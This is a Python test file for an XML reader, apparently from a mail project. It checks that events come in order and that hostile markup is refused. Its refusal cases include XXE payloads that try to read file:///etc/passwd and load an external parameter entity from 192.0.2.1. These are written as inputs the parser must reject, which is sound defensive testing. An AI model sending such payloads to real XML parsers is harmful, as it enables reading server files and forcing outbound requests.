"""XML of strangers: what is there is told in order, and nothing beyond the limits is read (attack row 27)."""

from __future__ import annotations

import pytest

from a3mailer.runtime.markup import BadMarkup, Limits, local_name, read

LIMITS = Limits(octets=1000, depth=4, elements=6)


class Heard:
    """Writes down what it is told."""

    def __init__(self) -> None:
        self.events: list[str] = []

    def start(self, name: str, attributes: list[str]) -> None:
        self.events.append(f"<{name} {attributes}>")

    def text(self, text: str) -> None:
        self.events.append(text)

    def end(self, name: str) -> None:
        self.events.append(f"</{name}>")


def told(octets: bytes, limits: Limits = LIMITS, encoding: str = "UTF-8") -> list[str]:
    heard = Heard()
    read(octets, heard, limits, encoding)
    return heard.events


def test_events_come_in_order() -> None:
    assert told(b"<a x='1' y='2'>t<n:b/>&lt;&#65;</a>") == [
        "<a ['x', '1', 'y', '2']>", "t", "<n:b []>", "</n:b>", "<A", "</a>",
    ]  # fmt: skip
    assert told(b"\xef\xbb\xbf<a>\xe9\x82\xae</a>")[1] == "\u90ae"
    assert told(b"<?xml version='1.0' encoding='utf-16'?><a/>") == ["<a []>", "</a>"], (
        "what it says is ignored"
    )
    assert told(b"<a>\xe9</a>", encoding="ISO-8859-1")[1] == "\u00e9"
    assert local_name("x:Response") == "response" == local_name("RESPONSE")


@pytest.mark.parametrize(
    ("octets", "words"),
    [
        (b"", "no XML"),
        (b"<a>", "no XML"),
        (b"<a/><b/>", "no XML"),
        (b"<a>\xff</a>", "no XML"),
        (b"<a>&b;</a>", "no XML"),
        (b"<!DOCTYPE a><a/>", "document type"),
        (b"<!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>", "document type"),
        (b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "document type"),
        (b"<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://192.0.2.1/x'> %p;]><a/>", "document type"),
        (b"<a>" * 5 + b"</a>" * 5, "too deep"),
        (b"<a>" + b"<b/>" * 6 + b"</a>", "too many"),
        (b"<a>" + b" " * 1000 + b"</a>", "larger than 1000"),
    ],
)
def test_what_is_refused(octets: bytes, words: str) -> None:
    with pytest.raises(BadMarkup, match=words):
        told(octets)


def test_a_reader_may_refuse() -> None:
    class Wary(Heard):
        def start(self, name: str, attributes: list[str]) -> None:
            raise BadMarkup(f"no {name} here")

    with pytest.raises(BadMarkup, match="no script here"):
        read(b"<script/>", Wary(), LIMITS)
